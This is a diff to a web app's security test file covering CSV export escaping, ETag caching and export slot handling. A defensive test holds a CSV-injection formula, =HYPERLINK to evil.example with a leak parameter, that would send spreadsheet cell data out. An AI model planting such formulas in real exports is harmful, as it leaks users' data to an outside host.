@@ -15,6 +15,7 @@ import { ROOT } from '../helpers/app-server.js'
 import { getStore, reopenStore } from '~/models/store.server'
 import { adminCookie } from '~/models/auth.server'
 import { CSRF_COOKIE, CSRF_FIELD, formToken, newCsrfValue } from '~/models/csrf.server'
+import { EXPORT_SLOTS } from '~/models/export-response.server'
 import { closePacks, createPack, getPack, updatePack, addItem } from '~/models/packs.server'
 import { loader as caseLoader } from '~/routes/cases.$id'
 import { loader as exportCsv } from '~/routes/export[.]csv'
@@ -60,6 +61,14 @@ function planted(): Case[] {
   ]
 }
 
+/** A file saved through the upload form, as the page sends it. */
+function upload(name: string, text: string) {
+  const form = new FormData()
+  form.set('intent', 'save')
+  form.set('file', new File([text], name))
+  return uploadAction(args('/upload', post(form)))
+}
+
 beforeAll(async () => {
   dir = mkdtempSync(path.join(os.tmpdir(), 'casebook-sec-web-'))
   casesDir = path.join(dir, 'cases')
@@ -95,7 +104,7 @@ describe('given a source URL that is not http(s)', () => {
     const page = await caseLoader(args('/cases/planted-url', undefined, { id: 'planted-url' }))
     await page.similar
     expect(page.source.url).toBeNull()
-    const csv = await ((await exportCsv()) as Response).text()
+    const csv = await ((await exportCsv(args('/export.csv'))) as Response).text()
     expect(csv).not.toContain('javascript:')
     const pack = await createPack('讲义')
     await updatePack(pack.id, (p) => addItem(p, 'planted-url'))
@@ -107,7 +116,7 @@ describe('given a source URL that is not http(s)', () => {
 
 describe('given a title a spreadsheet would run as a formula', () => {
   it('neutralises it in the dataset CSV and in the comparison CSV header', async () => {
-    const csv = await ((await exportCsv()) as Response).text()
+    const csv = await ((await exportCsv(args('/export.csv'))) as Response).text()
     const row = csv.split('\r\n').find((line) => line.startsWith('planted-formula,'))!
     expect(row.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1`)
     const compare = await ((await compareCsv(args('/compare.csv?ids=planted-formula,planted-url'))) as Response).text()
@@ -180,12 +189,6 @@ describe('given CASEBOOK_ADMIN_TOKEN and a signed-in admin', () => {
 
 describe('given uploads', () => {
   afterEach(() => reopenStore())
-  const upload = (name: string, text: string) => {
-    const form = new FormData()
-    form.set('intent', 'save')
-    form.set('file', new File([text], name))
-    return uploadAction(args('/upload', post(form)))
-  }
   const ids = async (q: string) => (await searchLoader(args(`/?q=${encodeURIComponent(q)}`))).hits.map((h) => h.id)
 
   it('adds the uploaded case without re-reading the other case files', async () => {
@@ -208,7 +211,17 @@ describe('given uploads', () => {
   })
 })
 
-describe('given the REFI-QDA export asked for again', () => {
+describe('given the exports asked for again', () => {
+  afterEach(() => reopenStore())
+  const province = `province=${encodeURIComponent('福建省')}`
+
+  /** The tag an export carries, its body left unread (so it takes no slot). */
+  async function tagOf(url: string, headers: Record<string, string> = {}): Promise<{ status: number; tag: string | null }> {
+    const response = (await exportCsv(args(url, { headers }))) as Response
+    await response.body?.cancel()
+    return { status: response.status, tag: response.headers.get('ETag') }
+  }
+
   it('gives the same bytes to requests at once and a 304 to a client that has this version', async () => {
     const responses = (await Promise.all([1, 2, 3].map(() => exportQdpx(args('/export.qdpx'))))) as Response[]
     const bodies = await Promise.all(responses.map(async (r) => Buffer.from(await r.arrayBuffer())))
@@ -217,5 +230,43 @@ describe('given the REFI-QDA export asked for again', () => {
     expect(etag).toBeTruthy()
     const again = (await exportQdpx(args('/export.qdpx', { headers: { 'If-None-Match': etag! } }))) as Response
     expect(again.status).toBe(304)
+  })
+
+  it('names each search and each store build apart: other filters or an upload give a new tag, and the bytes with it', async () => {
+    const all = await tagOf('/export.csv')
+    const fujian = await tagOf(`/export.csv?${province}`)
+    expect(fujian.tag).not.toBe(all.tag)
+    // The same search however its URL is spelled (an empty query, the page number) is the same export.
+    expect((await tagOf(`/export.csv?q=&page=3&${province}`)).tag).toBe(fujian.tag)
+    // Needs left out of a search make another export; for browsing (no query) they mean nothing.
+    const needs = `q=${encodeURIComponent('小区没人管，老人多')}`
+    expect((await tagOf(`/export.csv?${needs}&without=${encodeURIComponent('无物业')}`)).tag).not.toBe((await tagOf(`/export.csv?${needs}`)).tag)
+    expect((await tagOf(`/export.csv?without=${encodeURIComponent('无物业')}&${province}`)).tag).toBe(fujian.tag)
+    expect((await tagOf(`/export.csv?${province}`, { 'If-None-Match': `W/${fujian.tag}, "other"` })).status).toBe(304)
+
+    expect(((await upload('lvhua.txt', '青松里小区楼道绿化\n\n青松里小区居民认领楼道花箱，物业出资三万元购置花苗。')) as Response).status).toBe(302)
+    const after = (await exportCsv(args('/export.csv', { headers: { 'If-None-Match': all.tag! } }))) as Response
+    expect(after.status).toBe(200)
+    expect(after.headers.get('ETag')).not.toBe(all.tag)
+    expect(await after.text()).toContain('青松里小区楼道绿化')
+  })
+
+  it('writes one REFI-QDA project at a time; one its client leaves or never reads holds no slot', async () => {
+    const slots = EXPORT_SLOTS.qdpx
+    // A body nobody reads, as Remix leaves it for HEAD: no slot taken.
+    await exportQdpx(args('/export.qdpx'))
+    expect(slots.busy).toBe(0)
+    const first = ((await exportQdpx(args('/export.qdpx'))) as Response).body!.getReader()
+    const second = ((await exportQdpx(args('/export.qdpx'))) as Response).body!.getReader()
+    expect((await first.read()).done).toBe(false)
+    let secondRead = false
+    const waiting = second.read().then((chunk) => ((secondRead = true), chunk))
+    await new Promise((resolve) => setTimeout(resolve, 50))
+    expect([slots.busy, slots.queued, secondRead]).toEqual([1, 1, false])
+    // The first client goes away: its export stops and the second one starts.
+    await first.cancel()
+    expect((await waiting).done).toBe(false)
+    while (!(await second.read()).done);
+    expect([slots.busy, slots.queued]).toEqual([0, 0])
   })
 })
